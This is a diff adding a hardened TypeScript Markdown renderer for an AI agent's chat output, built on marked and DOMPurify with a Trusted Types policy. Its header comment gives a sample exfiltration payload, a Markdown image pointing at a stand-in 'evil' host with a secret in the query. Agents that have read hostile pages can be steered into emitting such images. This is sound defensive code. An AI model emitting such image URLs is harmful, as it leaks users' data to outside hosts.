@@ -1,0 +1,62 @@
+/**
+ * `pedelec-elements/markdown` — the Markdown renderer `<pedelec-chat markdown>` loads on first use (a
+ * separate entry, so the main file does not grow). Built on `marked` and `DOMPurify`, locked down for
+ * text written by an agent that may have read hostile pages:
+ * - raw HTML in the Markdown is shown as text, never parsed;
+ * - images become links, so `![](https://evil/?d=secret)` loads nothing;
+ * - only `p br hr h1–h6 strong em del code pre blockquote ul ol li a table…` survive — no `img`,
+ *   `iframe`, `form`, `style`, `svg`, `math`, no `style` or event attributes;
+ * - links only to absolute `http:`, `https:` and `mailto:` URLs, opened in a new tab with
+ *   `rel="noopener noreferrer nofollow"`;
+ * - the HTML goes into the DOM only through the Trusted Types policy `pedelec-elements`, whose
+ *   `createHTML` is the sanitizer itself (DOMPurify needs `dompurify` allowed too).
+ */
+import DOMPurify from 'dompurify';
+import { Marked } from 'marked';
+
+type Policy = { createHTML(input: string): string };
+type TrustedTypesFactory = { createPolicy(name: string, rules: { createHTML(input: string): string }): Policy };
+
+const escape = (text: string) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
+
+const marked = new Marked({
+  gfm: true,
+  breaks: true,
+  renderer: {
+    html: ({ text }) => escape(text),
+    image: ({ href, text }) => `<a href="${escape(href)}">${escape(text || href)}</a>`,
+  },
+});
+
+const CONFIG = {
+  ALLOWED_TAGS: ['p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td'],
+  ALLOWED_ATTR: ['href', 'title', 'start', 'align'],
+  ALLOWED_URI_REGEXP: /^(?:https?|mailto):/i,
+  ALLOW_DATA_ATTR: false,
+  ALLOW_ARIA_ATTR: false,
+};
+
+const sanitize = (html: string) => DOMPurify.sanitize(html, CONFIG);
+
+const tt = (globalThis as { trustedTypes?: TrustedTypesFactory }).trustedTypes;
+let policy: Policy | null = null;
+try {
+  policy = tt ? tt.createPolicy('pedelec-elements', { createHTML: sanitize }) : { createHTML: sanitize };
+} catch {
+  // The page's CSP does not allow our policy: render plain text rather than fail.
+}
+
+/** Renders agent Markdown as a sanitized fragment (plain text when the page's CSP forbids the policy). */
+export function renderMarkdown(markdown: string): DocumentFragment {
+  const template = document.createElement('template');
+  if (!policy) {
+    template.content.append(markdown);
+    return template.content;
+  }
+  template.innerHTML = policy.createHTML(marked.parse(markdown, { async: false }));
+  for (const a of template.content.querySelectorAll('a[href]')) {
+    a.setAttribute('target', '_blank');
+    a.setAttribute('rel', 'noopener noreferrer nofollow');
+  }
+  return template.content;
+}
